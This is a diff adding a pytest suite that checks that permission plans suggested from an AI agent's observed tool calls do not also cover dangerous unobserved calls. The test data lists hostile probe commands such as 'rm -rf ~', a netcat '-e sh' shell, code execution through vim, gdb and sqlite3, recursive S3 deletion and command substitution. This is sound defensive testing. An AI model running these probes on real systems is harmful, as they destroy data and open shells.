@@ -1,0 +1,166 @@
+"""The previous review's findings on ``suggest`` (reports/old/i32-breaks.md, F1–F7), each as
+evidence the reviewer used and the unobserved call it showed a suggested plan covering. The
+reference is the gate (``check_call`` under the suggested plan) and the prover, never
+suggest's own code: every observed call must stay covered or be listed, and the probe must
+not be covered.
+"""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+from evidence_calls import copilot_lines
+
+from skillgrant import prove
+from skillgrant.evidence.candidates import Level
+from skillgrant.evidence.read import Evidence, Observed, read_evidence
+from skillgrant.evidence.suggest import suggest
+from skillgrant.gate.call import check_call
+
+CWD = "/w/proj"
+NARROW_TO_WIDE: tuple[Level, ...] = ("exact", "command", "directory")
+
+
+def _evidence(*calls: tuple[str, Mapping[str, object]]) -> Evidence:
+    return Evidence([Observed("e", i + 1, tool, dict(tool_input), CWD)
+                     for i, (tool, tool_input) in enumerate(calls)])
+
+
+def _bash(*commands: str) -> Evidence:
+    return _evidence(*[("Bash", {"command": c}) for c in commands])
+
+
+def _covered(entries: list[str], tool: str, tool_input: dict[str, object]) -> bool:
+    return check_call(tool, tool_input, entries, cwd=CWD).covered
+
+
+def _assert_observed_covered_or_listed(found: object, evidence: Evidence) -> None:
+    listed = {d.call.key() for d in found.not_suggestible}  # type: ignore[attr-defined]
+    for call in evidence.calls:
+        if call.key() not in listed:
+            assert _covered(found.entries, call.tool, dict(call.tool_input)), call  # type: ignore[attr-defined]
+
+
+#: F1: programs that run code from their arguments, not on the old deny list, each observed
+#: once harmlessly, with the call the old plan then covered.
+F1 = [
+    ("vim.tiny x", 'vim.tiny -c "!id" -c q'), ("vim.basic x", 'vim.basic -c "!id"'),
+    ("tclsh8.6 x", "tclsh8.6 /tmp/x.tcl"),
+    ("gdb-multiarch -batch", 'gdb-multiarch -batch -ex "shell id"'),
+    ("toybox ls", "toybox sh -c id"), ("zsh-5.9 -c true", "zsh-5.9 -c id"),
+    ("gawk5 1", 'gawk5 "BEGIN{system(\\"id\\")}"'), ("awk.exe 1", "awk.exe 'BEGIN{system(1)}'"),
+    ("AWK 1", "AWK 'BEGIN{system(1)}'"), ("sed4 p", "sed4 e"), ("jruby x.rb", "jruby -e 1"),
+    ("emacsclient -n x", 'emacsclient --eval "(shell-command \\"id\\")"'),
+    ("git-shell -c true", 'git-shell -c "git-upload-pack x"'), ("ash x", 'ash -c "rm -rf ~"'),
+    ("nu x", "nu -c id"), ("py x", 'py -c "import os"'), ("ipython x", "ipython -c 1"),
+    ("ts-node a.ts", "ts-node /tmp/e.ts"), ("tsx a.ts", "tsx /tmp/e.ts"),
+    ("sqlite3 db .tables", 'sqlite3 :memory: ".shell id"'), ("psql -l", 'psql -c "\\! id"'),
+    ("rg --files", "rg --pre /tmp/x --files"), ("fzf -f x", "fzf -f x --preview id"),
+    ("cmake --version", "cmake -P /tmp/x.cmake"), ("gcc a.c", "gcc -wrapper /tmp/x a.c"),
+    ("crontab -l", "crontab /tmp/tab"), ("at -l", "at -f /tmp/s now"),
+    ("direnv status", "direnv exec . sh"), ("nix-shell -p jq", "nix-shell --run id"),
+    ("opam list", "opam exec -- sh -c id"), ("xcrun --show-sdk-path", "xcrun sh -c id"),
+    ("nc.openbsd -h", "nc.openbsd -e sh h 1"), ("perl-5 x", "perl-5 -e 1"),
+    ("ls.exe x", "ls.exe y"), ("LS x", "LS y"), ("pre-commit run", "pre-commit try-repo /tmp/x"),
+]
+#: F2: subcommands that run code, and `run` with no script.
+F2 = [
+    ("npm run", "npm run evil"), ("yarn run", "yarn run evil"), ("pnpm run", "pnpm run evil"),
+    ("bun run", "bun run /tmp/evil.ts"), ("dart run", "dart run /tmp/e.dart"),
+    ("swift run", "swift run --repl"), ("mix run", 'mix run -e "System.cmd(1)"'),
+    ("rustup run stable cargo build", "rustup run stable sh -c id"),
+    ("uv pip list", "uv pip install /tmp/evilpkg"),
+    ("apt-get install jq", "apt-get install ./evil.deb"),
+    ("composer exec phpunit", "composer exec -- sh"), ("git hook list", "git hook run pre-commit"),
+    ("go mod tidy", "go mod download"), ("mvn test", "mvn test exec:exec -Dexec.executable=sh"),
+    ("gradle build", "gradle build --init-script /tmp/e.gradle"),
+    ("pytest -q", "pytest -p evilplugin"),
+    ("npm test", "npm test --script-shell=/tmp/evil"), ("heroku run bash", "heroku run bash -c id"),
+    ("git log -5", "git log --output=/w/proj/.git/hooks/pre-commit"),
+]
+#: F3: a flag (or a glob) before the second level of a two-level program.
+F3 = [
+    ("gh pr -R o/r list", "gh pr merge 1 --admin"), ("gh pr 'li*'", "gh pr close 1"),
+    ("aws s3 --region eu ls", "aws s3 rm s3://b --recursive"),
+    ("gcloud compute -q instances list", "gcloud compute ssh vm --command id"),
+]
+
+
+@pytest.mark.parametrize(("observed", "probe"), F1 + F2 + F3,
+                         ids=[o for o, _ in F1 + F2 + F3])
+@pytest.mark.parametrize("level", NARROW_TO_WIDE[1:])
+def test_f1_f2_f3_no_group_reaches_an_unobserved_call(observed: str, probe: str,
+                                                      level: Level) -> None:
+    evidence = _bash(observed)
+    found = suggest(evidence, level)
+    assert not any("*" in e for e in found.entries), found.entries
+    _assert_observed_covered_or_listed(found, evidence)
+    assert not _covered(found.entries, "Bash", {"command": probe}), (found.entries, probe)
+
+
+def test_f1_f3_from_copilot_events(tmp_path: Path) -> None:
+    events = tmp_path / "events.jsonl"
+    events.write_text(copilot_lines([("bash", {"command": "vim.tiny x"}),
+                                     ("bash", {"command": "gh pr -R o/r list"})], cwd=CWD))
+    found = suggest(read_evidence([str(events)]))
+    assert found.entries == ["Bash(gh pr -R o/r list)", "Bash(vim.tiny x)"]
+
+
+@pytest.mark.parametrize(("tool", "tool_input", "wide"), [
+    ("Bash", {"command": "ls > /"}, "Edit(//)"),
+    ("Bash", {"command": "ls > /etc/"}, "Edit(//etc)"),
+    ("Read", {"file_path": "/w/proj/sub/"}, "Read(//w/proj/sub)"),
+    ("Grep", {"pattern": "x", "path": "/"}, "Read(//**)"),
+    ("Write", {"file_path": "/home/u"}, "Edit(//home/u)"),
+])
+@pytest.mark.parametrize("level", NARROW_TO_WIDE)
+def test_f4_no_entry_names_the_root_a_home_or_a_directory(tool: str, tool_input: dict[str, object],
+                                                          wide: str, level: Level) -> None:
+    found = suggest(_evidence((tool, tool_input)), level)
+    assert wide not in found.entries and not found.entries, found.entries
+    (listed,) = found.not_suggestible
+    assert listed.why
+
+
+def test_f4_a_home_or_the_root_is_never_a_directory_group() -> None:
+    evidence = _evidence(("Write", {"file_path": "/home/u/.bashrc"}),
+                         ("Read", {"file_path": "/etc.txt"}), ("Read", {"file_path": "/root/x"}))
+    found = suggest(evidence, "directory")
+    assert found.entries == ["Edit(//home/u/.bashrc)", "Read(//etc.txt)", "Read(//root/x)"]
+    assert not _covered(found.entries, "Edit", {"file_path": "/home/u/.ssh/authorized_keys"})
+
+
+#: F5 and F6: the reviewer's mix (names.jsonl-like), with substitutions and expansions.
+F5 = ["git log -5", "ls", "npm test", "cat src/a.py docs/x.md README.md", "read x",
+      "printf -v x id", "ls -la", "gh pr list", "gh pr list -L 5", "echo hi", "touch a b",
+      "git status", "git status -s", "ls > out.txt", "cat a.txt | wc -l"]
+F6 = ["echo $(id)", "git log $(id)", "ls {a,b}", "echo ${X:-$(id)}", "ls $X", "ls *"]
+
+
+def test_f5_exact_within_command_within_directory_by_the_prover() -> None:
+    evidence = _bash(*F5, *F6)
+    plans = [suggest(evidence, level).entries for level in NARROW_TO_WIDE]
+    for narrow, wide in itertools.pairwise(plans):
+        for entry in narrow:
+            assert prove(entry, wide, runtime="claude-code").covered, (entry, wide)
+    assert len(plans[1]) < len(set(F5))
+
+
+@pytest.mark.parametrize("level", NARROW_TO_WIDE)
+def test_f6_expansions_are_listed_not_covered(level: Level) -> None:
+    found = suggest(_bash(*F6), level)
+    assert found.entries == [] and len(found.not_suggestible) == len(F6), found.entries
+
+
+def test_f7_a_deep_path_covered_at_exact_stays_covered_at_directory() -> None:
+    deep = {"file_path": "/w/proj/" + "/".join(["d"] * 3000) + "/f.py"}
+    evidence = _evidence(("Read", deep), ("Bash", {"command": "echo " + "x" * 5000}))
+    covered = []
+    for level in NARROW_TO_WIDE:
+        found = suggest(evidence, level)
+        covered.append({c.key() for c in evidence.calls
+                        if _covered(found.entries, c.tool, dict(c.tool_input))})
+    assert covered[0] and covered[0] <= covered[1] <= covered[2]
